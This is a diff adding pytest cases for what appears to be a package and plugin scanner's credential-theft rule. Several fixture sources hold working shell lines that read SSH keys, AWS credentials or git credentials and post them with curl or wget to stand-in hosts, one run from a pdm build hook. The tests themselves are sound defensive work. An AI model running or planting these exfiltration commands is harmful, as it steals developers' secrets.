@@ -141,3 +141,67 @@ def test_the_prefilter_sends_every_upload_to_the_rule(
 @pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
 def test_a_credential_file_a_program_only_uses_is_not_sent(source: str, mode: ScanMode) -> None:
     assert "CPL-THR-007" not in danger(source, mode)
+
+
+#: recall16 (blind15's b15-ls-pdm-build-hook): a credential's text substituted into a
+#: sending program's data, in a script kept in a multi-line literal, run by bash -c; a
+#: variable set from the substitution and sent; backticks. Clean on main.
+SUBSTITUTED = [
+    '''
+    import subprocess
+    SCRIPT = r"""
+    u=$(id -un); h=$(hostname)
+    curl -s -X POST -d "u=$u&h=$h&k=$(cat ~/.ssh/id_* 2>/dev/null | base64 -w0)" https://h.example/i
+    """
+    def pdm_build_initialize(context):
+        subprocess.run(["bash", "-c", SCRIPT], check=False)
+    ''',
+    """
+    import os
+    os.system('k=$(base64 -w0 ~/.aws/credentials); wget -q --post-data="k=$k" http://198.51.100.4/')
+    """,
+    """
+    import subprocess
+    subprocess.run("curl -d k=`cat ~/.git-credentials` https://h.example/g", shell=True)
+    """,
+]
+
+
+@pytest.mark.parametrize("source", SUBSTITUTED)
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_a_credential_substituted_into_what_a_program_sends_is_theft(
+    source: str, mode: ScanMode
+) -> None:
+    assert "CPL-THR-007" in danger(source, mode)
+
+
+@pytest.mark.parametrize("source", SUBSTITUTED)
+def test_the_prefilter_sends_every_substituted_upload_to_the_rule(
+    source: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), "CPL-THR-007")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a token authenticating the request to its own service: an identity, as --netrc-file
+        """
+        import os
+        os.system('curl -H "Authorization: Bearer $(cat ~/.config/gh/hosts.yml)" https://api.github.com/user')
+        """,
+        # a version file's text posted, a key's fingerprint computed locally
+        """
+        import os
+        os.system('curl -d "v=$(cat VERSION)" https://ci.example.org/report; '
+                  'fp=$(ssh-keygen -lf ~/.ssh/id_rsa.pub); echo "$fp"')
+        """,
+        # a credential read into a variable that no sending program is given
+        """
+        import os
+        os.system('k=$(cat ~/.netrc); echo "${#k}"; curl -s https://example.org/ping')
+        """,
+    ],
+)
+def test_a_credential_substituted_where_nothing_sends_it_is_not_theft(source: str) -> None:
+    assert "CPL-THR-007" not in danger(source, ScanMode.PACKAGE)
